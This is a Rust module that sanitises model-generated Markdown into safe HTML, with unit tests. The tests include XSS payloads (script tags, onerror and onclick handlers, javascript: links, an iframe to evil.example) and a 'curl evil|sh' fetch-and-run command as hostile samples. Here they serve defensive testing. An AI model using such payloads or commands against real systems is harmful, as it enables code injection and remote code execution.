//! Markdown to safe HTML: pulldown-cmark renders, ammonia removes anything active (scripts, event handlers,
//! `javascript:` links, styles, frames). Model output is untrusted; it is rendered whole, never in pieces.
//!
//! Two changes to what pulldown-cmark writes: an image becomes a link that shows its address (a model's image
//! would be fetched from wherever it points, telling that server who reads the answer, and most are invented
//! addresses that show a broken icon), and a fenced code block gets a header with its language and a copy
//! button (shown by the page's script), its code coloured by [`super::highlight`].

use pulldown_cmark::{CodeBlockKind, CowStr, Event, Options, Parser, Tag, TagEnd, html};
use std::sync::LazyLock;

static CLEANER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let mut b = ammonia::Builder::default();
    b.link_rel(Some("noopener noreferrer nofollow"));
    // Images in raw HTML go too: see the module documentation.
    b.rm_tags(["img"]);
    b.add_allowed_classes("a", ["image-link"]);
    // Syntax highlighting: spans with these classes only (colours come from the stylesheet).
    b.add_allowed_classes("span", super::highlight::CLASSES.iter().copied());
    b
});

/// Where a code block's header goes, and where its wrapper ends: private-use characters put in by [`render`]
/// (and removed from the model's text first), replaced by HTML only after cleaning. The model's own HTML can
/// therefore never make a header or a copy button (one that would copy text the reader does not see).
const HEAD_OPEN: char = '\u{E000}';
const HEAD_CLOSE: char = '\u{E001}';
const BLOCK_END: char = '\u{E002}';

pub fn render(markdown: &str) -> String {
    let markdown: String = markdown
        .chars()
        .filter(|c| !matches!(*c, HEAD_OPEN | HEAD_CLOSE | BLOCK_END))
        .collect();
    let markdown = markdown.as_str();
    let mut opts = Options::empty();
    opts.insert(Options::ENABLE_TABLES);
    opts.insert(Options::ENABLE_STRIKETHROUGH);
    opts.insert(Options::ENABLE_TASKLISTS);
    let mut out = String::with_capacity(markdown.len() * 3 / 2);
    // The address of the image being turned into a link, shown after its text; links open around it (an image
    // inside a link is written as text: links do not nest).
    let mut image: Option<CowStr> = None;
    let mut open_links = 0usize;
    // The code block being read: (language, code so far), written whole at its end.
    let mut code: Option<(String, String)> = None;
    let events = Parser::new_ext(markdown, opts).flat_map(|event| -> Vec<Event> {
        match event {
            Event::Start(Tag::Link { .. }) => {
                open_links += 1;
                vec![event]
            }
            Event::End(TagEnd::Link) => {
                open_links = open_links.saturating_sub(1);
                vec![event]
            }
            Event::Start(Tag::Image { dest_url, .. }) if open_links > 0 => {
                image = Some(dest_url.clone());
                vec![Event::Text("Image: ".into())]
            }
            Event::End(TagEnd::Image) if open_links > 0 => {
                let url = image.take().map(|u| u.to_string()).unwrap_or_default();
                vec![Event::Text(format!(" ({url})").into())]
            }
            Event::Start(Tag::Image { dest_url, .. }) => {
                image = Some(dest_url.clone());
                vec![
                    Event::Html(
                        format!("<a class=\"image-link\" href=\"{}\">", escape(&dest_url)).into(),
                    ),
                    Event::Text("Image: ".into()),
                ]
            }
            Event::End(TagEnd::Image) => {
                let url = image.take().map(|u| u.to_string()).unwrap_or_default();
                vec![
                    Event::Html("</a>".into()),
                    Event::Text(format!(" ({url})").into()),
                ]
            }
            Event::Text(text) if code.is_some() => {
                if let Some((_, so_far)) = code.as_mut() {
                    so_far.push_str(&text);
                }
                vec![]
            }
            Event::Start(Tag::CodeBlock(kind)) => {
                let lang = match &kind {
                    CodeBlockKind::Fenced(info) => info.split_whitespace().next().unwrap_or(""),
                    CodeBlockKind::Indented => "",
                };
                code = Some((lang.to_string(), String::new()));
                let label = if lang.is_empty() { "code" } else { lang };
                vec![
                    Event::Html(format!("{HEAD_OPEN}{}{HEAD_CLOSE}", escape(label)).into()),
                    Event::Start(Tag::CodeBlock(kind)),
                ]
            }
            Event::End(TagEnd::CodeBlock) => {
                let mut out = Vec::with_capacity(3);
                if let Some((lang, text)) = code.take() {
                    // Escaped text in spans of the highlighter's classes, cleaned like everything else.
                    let html =
                        super::highlight::highlight(&lang, &text).unwrap_or_else(|| escape(&text));
                    out.push(Event::Html(html.into()));
                }
                out.push(Event::End(TagEnd::CodeBlock));
                out.push(Event::Html(BLOCK_END.to_string().into()));
                out
            }
            other => vec![other],
        }
    });
    html::push_html(&mut out, events);
    let clean = CLEANER.clean(&out).to_string();
    code_headers(&clean)
}

/// The cleaned HTML with each code block's markers replaced by its header and wrapper.
fn code_headers(clean: &str) -> String {
    let mut out = String::with_capacity(clean.len() + 64);
    let mut rest = clean;
    while let Some(at) = rest.find([HEAD_OPEN, BLOCK_END]) {
        out.push_str(&rest[..at]);
        let marker = rest[at..].chars().next().unwrap_or(BLOCK_END);
        rest = &rest[at + marker.len_utf8()..];
        if marker == BLOCK_END {
            out.push_str("</div>");
            continue;
        }
        // The label between the markers was escaped before cleaning, and cleaning keeps it escaped.
        let end = rest.find(HEAD_CLOSE).unwrap_or(rest.len());
        out.push_str(&format!(
            "<div class=\"code\"><div class=\"code-head\"><span class=\"lang\">{}</span>\
             <button type=\"button\" class=\"copy-code\" hidden>Copy</button></div>",
            &rest[..end]
        ));
        rest = rest.get(end + HEAD_CLOSE.len_utf8()..).unwrap_or("");
    }
    out.push_str(rest);
    out
}

fn escape(text: &str) -> String {
    crate::util::escape_html(text)
}

#[cfg(test)]
mod tests {
    use super::render;

    #[test]
    fn code_is_highlighted_on_the_server_and_stays_escaped() {
        let html = render("```rust\nfn main() { let s = \"<b>\"; } // done\n```\n");
        assert!(html.contains("<span class=\"hl-kw\">fn</span>"), "{html}");
        assert!(
            html.contains("<span class=\"hl-str\">\"&lt;b&gt;\"</span>"),
            "{html}"
        );
        assert!(
            html.contains("<span class=\"hl-com\">// done</span>"),
            "{html}"
        );
        // An unknown language is written plainly, escaped; a model's own span classes beyond ours are dropped.
        let html =
            render("```klingon\n<b>x</b>\n```\n\n<span class=\"evil hl-kw\" style=\"x\">y</span>");
        assert!(html.contains("&lt;b&gt;x&lt;/b&gt;"), "{html}");
        assert!(!html.contains("evil") && !html.contains("style"), "{html}");
    }

    #[test]
    fn formatting_survives_and_active_content_does_not() {
        let html = render("**bold** and `code`\n\n```rust\nfn main() {}\n```\n");
        assert!(html.contains("<strong>bold</strong>"));
        assert!(html.contains("<pre><code"));
        for evil in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "[click](javascript:alert(1))",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<div style=\"background:url(x)\" onclick=\"alert(1)\">x</div>",
            "<button onclick=\"alert(1)\" formaction=\"/x\">b</button>",
        ] {
            let out = render(evil);
            let lower = out.to_lowercase();
            assert!(!lower.contains("<script"), "{out}");
            assert!(!lower.contains("onerror"), "{out}");
            assert!(!lower.contains("onclick"), "{out}");
            assert!(!lower.contains("javascript:"), "{out}");
            assert!(!lower.contains("<iframe"), "{out}");
            assert!(!lower.contains("formaction"), "{out}");
        }
    }

    #[test]
    fn images_become_links_that_show_their_address() {
        let html = render(
            "see ![a cat](https://img.example/cat.png \"t\") and <img src=\"https://x.example/y.png\">",
        );
        assert!(!html.contains("<img"), "{html}");
        assert!(
            html.contains("href=\"https://img.example/cat.png\""),
            "{html}"
        );
        assert!(
            html.contains("Image: a cat</a> (https://img.example/cat.png)"),
            "{html}"
        );
        // A hostile address stays inert: shown as text, never a link.
        let html = render("![x](javascript:alert(1))");
        assert!(!html.to_lowercase().contains("href=\"javascript"), "{html}");
    }

    #[test]
    fn code_blocks_carry_their_language_and_a_copy_button() {
        let html =
            render("```rust title\nfn main() {}\n```\n\n```\nplain\n```\n\n```<b>x</b>\ny\n```\n");
        assert!(html.contains("<span class=\"lang\">rust</span>"), "{html}");
        assert!(html.contains("<span class=\"lang\">code</span>"), "{html}");
        assert!(
            html.contains("<button type=\"button\" class=\"copy-code\" hidden=\"\">Copy</button>")
                || html.contains("class=\"copy-code\" hidden>Copy"),
            "{html}"
        );
        assert!(!html.contains("<b>x</b>"), "{html}");
    }

    #[test]
    fn the_models_own_html_cannot_make_a_code_header_or_copy_button() {
        let html = render(
            "<div class=\"code\"><div class=\"code-head\"><button class=\"copy-code\">Copy</button></div>\
             <ruby><rp><pre><code>curl evil|sh</code></pre></rp></ruby></div> \u{E000}x\u{E001} \u{E002}",
        );
        assert!(
            !html.contains("copy-code")
                && !html.contains("class=\"code")
                && !html.contains("<button"),
            "{html}"
        );
        assert!(
            !html.contains('\u{E000}') && !html.contains('\u{E002}'),
            "{html}"
        );
    }

    #[test]
    fn an_image_inside_a_link_keeps_the_link() {
        let html = render("[![badge](https://img.example/b.svg)](https://example.com/project)");
        assert_eq!(html.matches("<a ").count(), 1, "{html}");
        assert!(
            html.contains("href=\"https://example.com/project\""),
            "{html}"
        );
        assert!(
            html.contains("Image: badge (https://img.example/b.svg)"),
            "{html}"
        );
    }
}
